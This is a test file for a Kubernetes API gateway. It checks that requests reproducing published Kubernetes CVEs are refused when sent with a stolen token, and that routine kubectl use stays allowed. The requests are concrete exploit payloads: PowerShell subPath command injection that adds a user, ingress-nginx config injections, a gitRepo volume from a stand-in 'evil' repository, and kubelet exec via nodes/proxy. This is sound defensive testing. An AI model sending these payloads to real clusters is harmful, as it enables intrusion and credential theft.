import { describe, expect, it } from 'vitest';
import { builtServerForFile, freshSubjects, KUBE, OFFICE, reason, REFUSED, rules } from '../support/built-server.js';
import type { CheckResponse } from '../support/grpc-client.js';
import { checkRequest, CONTENT_TYPES } from '../support/requests.js';

/**
 * Session 44's round (redteam44c) on published Kubernetes-ecosystem CVEs: for each class, the
 * request an attacker sends through the gateway to exploit a cluster still vulnerable to it, with
 * a stolen everyday token (two factors, signed in three hours ago, from the engineer's office after
 * the engineer's own kubectl read: what the example's 8-hour rules admit, the secrets, pod-shell,
 * pod-creates and node-changes rules among them), against the built server with the example
 * policy over real gRPC. Each class has a row saying what stops it (a rule, a guardrail, or
 * `request_invalid`), and a control of the same API's routine use that stays allowed.
 * docs/guardrails.md ("Published Kubernetes CVEs") is the table of these rows.
 */

const server = builtServerForFile('session44-cves');
const subjects = freshSubjects(() => server().issuer, 'session44-cves');
const KUBECTL = 'kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9';

interface Req {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: unknown;
}

/** The stolen everyday token: aal2, three hours old, from the office, after the victim's own read. */
const everyday = async (req: Req): Promise<CheckResponse> => {
  const token = await subjects.tokenOf('aal2', 3 * 3600);
  const own = await server().client.check(checkRequest({ host: KUBE, source: OFFICE, path: '/api/v1/namespaces/dev/pods?limit=500', token, headers: { 'user-agent': KUBECTL } }));
  expect(reason(own), "the victim's own read").toBe('allowed');
  const body = req.body === undefined ? undefined : JSON.stringify(req.body);
  const headers = { 'user-agent': KUBECTL, ...(body !== undefined ? { 'x-envoy-auth-partial-body': 'false', 'content-type': CONTENT_TYPES.json } : {}), ...req.headers };
  return server().client.check(checkRequest({ host: KUBE, source: OFFICE, method: req.method, path: req.path, token, headers, body }));
};

const post = (path: string, body: unknown, headers: Record<string, string> = {}): Req => ({ method: 'POST', path, body, headers });
const patch = (path: string, body: unknown, type: string = CONTENT_TYPES.merge, headers: Record<string, string> = {}): Req => ({ method: 'PATCH', path, body, headers: { 'content-type': type, ...headers } });
const WS = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v5.channel.k8s.io' };
const SPDY = { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'v4.channel.k8s.io' };
const IMAGE = 'registry.example/app:1';
const NG = 'nginx.ingress.kubernetes.io';
const GONE_OWNER = { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Namespace', name: 'gone', uid: '6b7a3c1e-0000-4000-8000-00000000dead' }] } };

const pod = (spec: object, annotations?: Record<string, string>) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x', ...(annotations && { annotations }) }, spec: { containers: [{ name: 'c', image: IMAGE }], ...spec } });
const deployment = (podSpec: object) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web' }, spec: { selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: podSpec } } });
const ingress = (annotations: Record<string, string>) =>
  post('/apis/networking.k8s.io/v1/namespaces/dev/ingresses', { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'web', annotations }, spec: { ingressClassName: 'nginx', rules: [{ host: 'web.dev.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] } });
const windowsMount = (mount: object, env: object[] = []) =>
  post('/apis/apps/v1/namespaces/dev/deployments', deployment({ nodeSelector: { 'kubernetes.io/os': 'windows' }, volumes: [{ name: 'v', emptyDir: {} }], containers: [{ name: 'c', image: IMAGE, env, volumeMounts: [{ name: 'v', mountPath: 'C:\\data', ...mount }] }] }));
const admissionReview = { kind: 'AdmissionReview', apiVersion: 'admission.k8s.io/v1', request: { uid: '../../../../../proc/self/fd/20', kind: { group: 'networking.k8s.io', version: 'v1', kind: 'Ingress' }, operation: 'CREATE', object: {} } };
const ephemeral = (container: object) => patch('/api/v1/namespaces/dev/pods/web-0/ephemeralcontainers', { spec: { ephemeralContainers: [{ name: 'dbg', image: IMAGE, targetContainerName: 'web', ...container }] } }, CONTENT_TYPES.strategic);

/** [CVE, what, request, the rule or `guardrail:<code>` the refusal names] */
type Row = [cve: string, what: string, req: Req, by: string];

const refusedBy = async ([, , req, by]: Row) => {
  const res = await everyday(req);
  expect(REFUSED, rules(res)).toContain(reason(res));
  expect(rules(res).split(',')).toContain(by);
};

/**
 * Found: allowed to the stolen everyday token before session 44, each fixed at its cause.
 * - CVE-2018-1002105: an upgrade on an aggregated API's discovery path (which anyone may read) was
 *   a read; an API server before 1.10.11/1.11.5/1.12.3 kept the refused upgrade's connection open
 *   to the extension server with its own credentials. kube serves an upgrade only on subresources
 *   and watches, so any other is request_invalid now (request/kube.ts upgradeNotServed).
 * - CVE-2025-5187: a Node's status written with an owner that does not exist had the garbage
 *   collector delete the Node (and evict every pod on it); the patch of the Node itself was asked
 *   what a delete asks (node-deletes, 15 min), its status only node-changes' 8 hours. Status
 *   writes whose strategy keeps metadata are read for owner references now (guardrails/inspect.ts).
 * - CVE-2023-3676 (3955, 3893): a subPath a Windows kubelet wrote into a PowerShell command was
 *   read by nothing; guardrail subpath_injection now (a hardware key within 5 minutes).
 */
describe('found in session 44: allowed to the stolen everyday token before', () => {
  const upgrades: [string, Req][] = [
    ['CVE-2018-1002105: a WebSocket upgrade of metrics.k8s.io discovery (an aggregated API every user may read)', { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1', headers: WS }],
    ['CVE-2018-1002105: the same by SPDY', { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1', headers: SPDY }],
    ["CVE-2018-1002105: an upgrade of an aggregated API's list", { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/namespaces/dev/pods', headers: WS }],
    ['CVE-2018-1002105: an upgrade of a service catalog object (the advisory\'s own example)', { method: 'GET', path: '/apis/servicecatalog.k8s.io/v1beta1/clusterservicebrokers/ups', headers: WS }],
    ['CVE-2018-1002105: an HTTP/2 extended CONNECT of discovery', { method: 'CONNECT', path: '/apis/metrics.k8s.io/v1beta1', headers: { ':protocol': 'websocket' } }],
  ];
  it.each(upgrades)('%s: request_invalid', async (_what, req) => {
    expect(reason(await everyday(req))).toBe('request_invalid');
  });

  const rows: Row[] = [
    ['CVE-2025-5187', "a Node's status given an owner that does not exist (the garbage collector deletes the Node)", patch('/api/v1/nodes/worker-1/status', GONE_OWNER), 'node-deletes'],
    ['CVE-2025-5187', 'the same by a JSON patch', patch('/api/v1/nodes/worker-1/status', [{ op: 'add', path: '/metadata/ownerReferences', value: GONE_OWNER.metadata.ownerReferences }], CONTENT_TYPES.jsonPatch), 'node-deletes'],
    ['CVE-2023-3676', "a Deployment for Windows nodes whose subPath is a PowerShell subexpression", windowsMount({ subPath: "$(Start-Process powershell -ArgumentList 'net user mallory P@ss1 /add')" }), 'guardrail:subpath_injection'],
    ['CVE-2023-3955', 'a subPathExpr whose variable closes the quoted path', windowsMount({ subPathExpr: 'logs/$(DIR)' }, [{ name: 'DIR', value: "x' ; calc.exe ; '" }]), 'guardrail:subpath_injection'],
    ['CVE-2023-3676', 'an ephemeral container (kubectl debug) mounting at such a subPath', ephemeral({ volumeMounts: [{ name: 'data', mountPath: 'C:\\d', subPath: 'a`;calc' }] }), 'guardrail:subpath_injection'],
  ];
  it.each(rows.map((r) => [`${r[0]}: ${r[1]}`, r] as const))('%s: refused', async (_what, r) => refusedBy(r));
});

/** Right before this session: the rule or guardrail that stops the stolen everyday token. */
describe('already stopped: what answers each class', () => {
  const rows: Row[] = [
    ['CVE-2020-8554', `a Service in dev with externalIPs at the API server's ClusterIP (kube-proxy sends the cluster's traffic for it there)`, post('/api/v1/namespaces/dev/services', { apiVersion: 'v1', kind: 'Service', metadata: { name: 'mitm' }, spec: { selector: { app: 'mitm' }, ports: [{ port: 443 }], externalIPs: ['10.96.0.1'] } }), 'guardrail:service_external_ip'],
    ['CVE-2020-8554', "a LoadBalancer Service's status.loadBalancer.ingress patched to that address", patch('/api/v1/namespaces/dev/services/web/status', { status: { loadBalancer: { ingress: [{ ip: '10.96.0.1' }] } } }), 'guardrail:service_external_ip'],
    ['CVE-2022-3172', "an APIService pointed at a Service of the caller's (the aggregator follows its redirects with the caller's credentials)", post('/apis/apiregistration.k8s.io/v1/apiservices', { apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1beta1.evil.example.com' }, spec: { group: 'evil.example.com', version: 'v1beta1', service: { namespace: 'dev', name: 'redirector', port: 443 }, insecureSkipTLSVerify: true, groupPriorityMinimum: 1000, versionPriority: 15 } }), 'cluster-control'],
    ['CVE-2024-10220', 'a Deployment with a gitRepo volume (its hooks run on the node)', post('/apis/apps/v1/namespaces/dev/deployments', deployment({ volumes: [{ name: 'g', gitRepo: { repository: 'https://git.example/evil.git', directory: '.' } }], containers: [{ name: 'c', image: IMAGE }] })), 'guardrail:git_repo_volume'],
    ['CVE-2025-1767', "a Pod whose gitRepo clones another pod's volume on the same node", post('/api/v1/namespaces/dev/pods', pod({ volumes: [{ name: 'g', gitRepo: { repository: '/var/lib/kubelet/pods/5e2c0000-0000-4000-8000-000000000001/volumes/kubernetes.io~git-repo/src' } }] })), 'guardrail:git_repo_volume'],
    ['CVE-2023-5528', "a local PersistentVolume for Windows nodes whose path runs a command", post('/api/v1/persistentvolumes', { apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'win' }, spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], storageClassName: 'local', local: { path: "C:\\x' & calc.exe & '" }, nodeAffinity: { required: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/os', operator: 'In', values: ['windows'] }] }] } } } }), 'guardrail:host_path_volume'],
    ['CVE-2025-1097', 'an Ingress whose auth-tls-match-cn loads a module (IngressNightmare)', ingress({ [`${NG}/auth-tls-secret`]: 'dev/ca', [`${NG}/auth-tls-match-cn`]: 'CN=abc #(\n){}\n }}\nssl_engine ../../../../../../proc/1/fd/20;' }), 'guardrail:ingress_config_injection'],
    ['CVE-2025-1098', 'an Ingress whose mirror-target closes its directive', ingress({ [`${NG}/mirror-target`]: 'https://web.dev.svc/;\n}\nload_module /proc/1/fd/20;\n#' }), 'guardrail:ingress_config_injection'],
    ['CVE-2025-24514', 'an Ingress whose auth-url closes its directive', ingress({ [`${NG}/auth-url`]: 'http://example.com/#;\ninjection_point' }), 'guardrail:ingress_config_injection'],
    ['CVE-2023-5043', 'an Ingress with a configuration-snippet', ingress({ [`${NG}/configuration-snippet`]: 'more_set_headers "X: y";' }), 'guardrail:ingress_config_injection'],
    ['CVE-2023-5044', 'an Ingress whose permanent-redirect serves the controller\'s token', ingress({ [`${NG}/permanent-redirect`]: 'https://www.example.com;\nlocation ~* ^/x { alias /var/run/secrets/kubernetes.io/serviceaccount/; }' }), 'guardrail:ingress_config_injection'],
    ['CVE-2024-7646', 'an Ingress annotation past the controller\'s validation by a carriage return', ingress({ [`${NG}/permanent-redirect`]: 'https://www.example.com\r\tdeny all' }), 'guardrail:ingress_config_injection'],
    ['CVE-2025-1974', "an AdmissionReview sent to ingress-nginx's admission webhook through the API server's service proxy", post('/api/v1/namespaces/ingress-nginx/services/https:ingress-nginx-controller-admission:443/proxy/networking/v1/ingresses', admissionReview), 'system-pod-access'],
    ['CVE-2025-24513', 'the same through the pod proxy, with a uid that walks out of the auth directory', post('/api/v1/namespaces/ingress-nginx/pods/https:ingress-nginx-controller-7c6d8f9b4-abcde:8443/proxy/networking/v1/ingresses', admissionReview), 'system-pod-access'],
    ['CVE-2025-4563', "a mirror pod claiming another's ResourceClaim, created as its node (Impersonate-User system:node:…)", post('/api/v1/namespaces/dev/pods', pod({ nodeName: 'worker-1', resourceClaims: [{ name: 'gpu', resourceClaimName: 'prod-gpu-claim' }], containers: [{ name: 'c', image: IMAGE, resources: { claims: [{ name: 'gpu' }] } }] }, { 'kubernetes.io/config.mirror': 'x' }), { 'impersonate-user': 'system:node:worker-1', 'impersonate-group': 'system:nodes' }), 'guardrail:impersonation_privileged'],
    ['CVE-2025-4563', 'the same pod created as the person, pinned to the node', post('/api/v1/namespaces/dev/pods', pod({ nodeName: 'worker-1', resourceClaims: [{ name: 'gpu', resourceClaimName: 'gpu-claim' }], containers: [{ name: 'c', image: IMAGE, resources: { claims: [{ name: 'gpu' }] } }] }, { 'kubernetes.io/config.mirror': 'x' })), 'guardrail:control_plane_placement'],
    ['CVE-2025-5187', 'the Node itself given that owner', patch('/api/v1/nodes/worker-1', GONE_OWNER), 'node-deletes'],
    ['CVE-2025-5187', 'the same as the node (Impersonate-User system:node:worker-1)', patch('/api/v1/nodes/worker-1', GONE_OWNER, CONTENT_TYPES.merge, { 'impersonate-user': 'system:node:worker-1', 'impersonate-group': 'system:nodes' }), 'guardrail:impersonation_privileged'],
    ['CVE-2023-2728', "an ephemeral container in kube-system handed a bootstrap token's Secret (past the service account's mountable secrets)", patch('/api/v1/namespaces/kube-system/pods/coredns-1/ephemeralcontainers', { spec: { ephemeralContainers: [{ name: 'dbg', image: IMAGE, env: [{ name: 'T', valueFrom: { secretKeyRef: { name: 'bootstrap-token-abcdef', key: 'token-secret' } } }] }] } }, CONTENT_TYPES.strategic), 'system-secrets'],
    ['CVE-2024-3177', "a Deployment in production handed a Secret by envFrom (past the service account's mountable secrets)", post('/apis/apps/v1/namespaces/prod-payments/deployments', deployment({ serviceAccountName: 'web', containers: [{ name: 'c', image: IMAGE, envFrom: [{ secretRef: { name: 'db-admin' } }] }] })), 'prod-writes'],
    ['nodes/proxy GET', "the kubelet's exec over a WebSocket GET through nodes/proxy (the verb a get-only grant has)", { method: 'GET', path: '/api/v1/nodes/worker-1/proxy/exec/prod-eu/web-0/web?command=sh&input=1&output=1&tty=1', headers: WS }, 'no-node-proxy'],
    ['nodes/proxy GET', "the kubelet's port named in the node's name", { method: 'GET', path: '/api/v1/nodes/worker-1:10250/proxy/run/prod-eu/web-0/web?cmd=id', headers: WS }, 'no-node-proxy'],
    ['nodes/proxy GET', "the scheme named too, into etcd's static pod", { method: 'GET', path: '/api/v1/nodes/https:cp-1:10250/proxy/exec/kube-system/etcd-cp-1/etcd?command=sh&input=1&output=1', headers: WS }, 'no-node-proxy'],
  ];
  it.each(rows.map((r) => [`${r[0]}: ${r[1]}`, r] as const))('%s', async (_what, r) => refusedBy(r));

  it('nodes/proxy is denied whatever the sign-in: policy_deny', async () => {
    expect(reason(await everyday(rows.at(-3)![2]))).toBe('policy_deny');
  });
});

/**
 * CVE-2023-2728 and CVE-2024-3177 bypass the ServiceAccount admission plugin's mountable-secrets
 * list: a pod handed a Secret its account may not mount. stepgate judges a workload that hands its
 * containers a Secret as that Secret's read (rule `secrets`), so the write is allowed exactly where
 * the same token's read of the Secret is: in dev, where the stolen token reads it anyway; refused
 * in production and the cluster's namespaces (rows above). CVE-2023-2727 (an ephemeral container's
 * image past ImagePolicyWebhook) is the site's registry list: the example lists none, and
 * `guardrails.allowed_registries` reads ephemeral containers (test/unit/guardrails-registries).
 */
describe("judged as what they are: a Secret's read, a debug container", () => {
  const read: Req = { method: 'GET', path: '/api/v1/namespaces/dev/secrets/db-admin' };
  it.each<[string, Req]>([
    ['CVE-2023-2728: an ephemeral container in dev handed a Secret by envFrom', ephemeral({ envFrom: [{ secretRef: { name: 'db-admin' } }] })],
    ['CVE-2024-3177: a Deployment in dev handed a Secret by envFrom', post('/apis/apps/v1/namespaces/dev/deployments', deployment({ serviceAccountName: 'web', containers: [{ name: 'c', image: IMAGE, envFrom: [{ secretRef: { name: 'db-admin' } }] }] }))],
  ])('%s: the secrets rule judges it, as it judges the read', async (_what, req) => {
    const res = await everyday(req);
    expect(rules(res).split(',')).toContain('secrets');
    expect(reason(res)).toBe(reason(await everyday(read)));
  });

  it('CVE-2023-2727: an ephemeral container of an image from any registry is pod-shell\'s (the example names no registries)', async () => {
    const res = await everyday(ephemeral({ image: 'docker.io/mallory/tools:latest' }));
    expect(rules(res).split(',')).toContain('pod-shell');
    expect(rules(res)).not.toContain('guardrail:');
  });
});

describe('controls: the routine use of the same APIs stays allowed to the everyday token', () => {
  it.each<[string, Req]>([
    ['kubectl exec over WebSocket in dev (an upgrade on a subresource)', { method: 'GET', path: '/api/v1/namespaces/dev/pods/web-0/exec?command=sh&stdin=true&stdout=true&tty=true', headers: WS }],
    ['kubectl exec over SPDY in dev', { method: 'POST', path: '/api/v1/namespaces/dev/pods/web-0/exec?command=sh&stdin=true&stdout=true&tty=true', headers: SPDY }],
    ['kubectl port-forward over WebSocket in dev', { method: 'GET', path: '/api/v1/namespaces/dev/pods/web-0/portforward?ports=8080', headers: { ...WS, 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' } }],
    ['a watch over WebSocket (a dashboard\'s live list)', { method: 'GET', path: '/api/v1/namespaces/dev/pods?watch=1&resourceVersion=12345', headers: WS }],
    ['kubectl top (metrics.k8s.io discovery and list, no upgrade)', { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/namespaces/dev/pods' }],
    ['metrics.k8s.io discovery without an upgrade', { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1' }],
    ['a LoadBalancer Service in dev', post('/api/v1/namespaces/dev/services', { apiVersion: 'v1', kind: 'Service', metadata: { name: 'web' }, spec: { type: 'LoadBalancer', selector: { app: 'web' }, ports: [{ port: 443 }] } })],
    ["a Node's status conditions patched (no owner)", patch('/api/v1/nodes/worker-1/status', { status: { conditions: [{ type: 'NetworkUnavailable', status: 'False', reason: 'RouteCreated' }] } }, CONTENT_TYPES.strategic)],
    ['a Node labelled', patch('/api/v1/nodes/worker-1', { metadata: { labels: { 'example.com/pool': 'b' } } })],
    ['a Node read', { method: 'GET', path: '/api/v1/nodes/worker-1' }],
    ['a Deployment in dev mounting a ConfigMap file by subPath, and a per-pod directory by subPathExpr', post('/apis/apps/v1/namespaces/dev/deployments', deployment({ volumes: [{ name: 'conf', configMap: { name: 'web' } }, { name: 'logs', emptyDir: {} }], containers: [{ name: 'c', image: IMAGE, env: [{ name: 'POD_NAME', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }], volumeMounts: [{ name: 'conf', mountPath: '/etc/nginx/nginx.conf', subPath: 'nginx.conf' }, { name: 'logs', mountPath: '/var/log/app', subPathExpr: '$(POD_NAME)' }] }] }))],
    ['an Ingress with its own auth-url and an ordinary permanent-redirect', ingress({ [`${NG}/auth-url`]: 'http://oauth2-proxy.dev.svc.cluster.local/oauth2/auth', [`${NG}/permanent-redirect`]: 'https://www.example.com/new-home' })],
    ['kubectl debug: an ephemeral container in dev', ephemeral({})],
    ['a selectorless Service\'s Endpoints for an outside database', post('/api/v1/namespaces/dev/endpoints', { apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'db' }, subsets: [{ addresses: [{ ip: '10.50.1.20' }], ports: [{ port: 5432 }] }] })],
    ['an APIService read (kubectl get apiservices)', { method: 'GET', path: '/apis/apiregistration.k8s.io/v1/apiservices' }],
  ])('%s', async (_what, req) => {
    const res = await everyday(req);
    expect(reason(res), rules(res)).toBe('allowed');
  });
});

/**
 * Left open (docs/guardrails.md "Left open by session 44"): what decides each is in the cluster,
 * not the request. `it.fails`: a fix makes a row pass, which fails here until its marker goes.
 */
const LEFT_OPEN: [string, Req][] = [
  // The kubelet of a node the attacker holds answers the exec with a redirect the API server follows, to another node's kubelet with its own
  // credentials: an answer on the API server's connection to the kubelet, which the gateway never sees. The exec is routine in dev, byte for
  // byte. Fixed in kube-apiserver 1.16.13, 1.17.9, 1.18.6.
  ['CVE-2020-8559: an exec into a dev pod on a node the attacker controls', { method: 'POST', path: '/api/v1/namespaces/dev/pods/web-0/exec?command=sh&stdin=true&stdout=true', headers: SPDY }],
  // The refusal is the kubelet's answer on the API server's own connection; the request is what kubectl sends for every shell, and a
  // container that is gone reads as one that is there (the pod's spec is the cluster's). Fixed in kube-apiserver 1.10.11, 1.11.5, 1.12.3.
  ['CVE-2018-1002105: an exec upgrade the kubelet refuses, whose connection the API server keeps', { method: 'GET', path: '/api/v1/namespaces/dev/pods/web-0/exec?command=sh&container=gone&stdin=true&stdout=true', headers: WS }],
  // An address names no namespace: which pod holds it is the cluster's state and changes as pods come and go, so not even a configured pod
  // network would tell dev's own pods from production's. With a targetRef naming production it is endpoint_foreign_target (attack-session45-kube).
  ["CVE-2021-25740: an Endpoints object in dev at a production pod's address, behind a dev Ingress", post('/api/v1/namespaces/dev/endpoints', { apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'pay' }, subsets: [{ addresses: [{ ip: '10.244.3.17' }], ports: [{ port: 8080 }] }] })],
  // The symlink is made by a container at run time, after every check of the request; a subPath into a volume another container writes is
  // routine (an init container's config). Fixed in the kubelet 1.19.15, 1.20.11, 1.21.5, 1.22.2.
  ['CVE-2021-25741: a subPath into an emptyDir whose init container makes it a symlink to /', post('/apis/apps/v1/namespaces/dev/deployments', deployment({ volumes: [{ name: 'v', emptyDir: {} }], initContainers: [{ name: 'i', image: IMAGE, command: ['ln', '-s', '/', '/v/x'], volumeMounts: [{ name: 'v', mountPath: '/v' }] }], containers: [{ name: 'c', image: IMAGE, volumeMounts: [{ name: 'v', mountPath: '/host', subPath: 'x' }] }] }))],
];

describe('left open', () => {
  for (const [what, req] of LEFT_OPEN) {
    it.fails(`${what} is refused to the everyday token`, async () => {
      const res = await everyday(req);
      expect(REFUSED, rules(res)).toContain(reason(res));
    });
  }
});
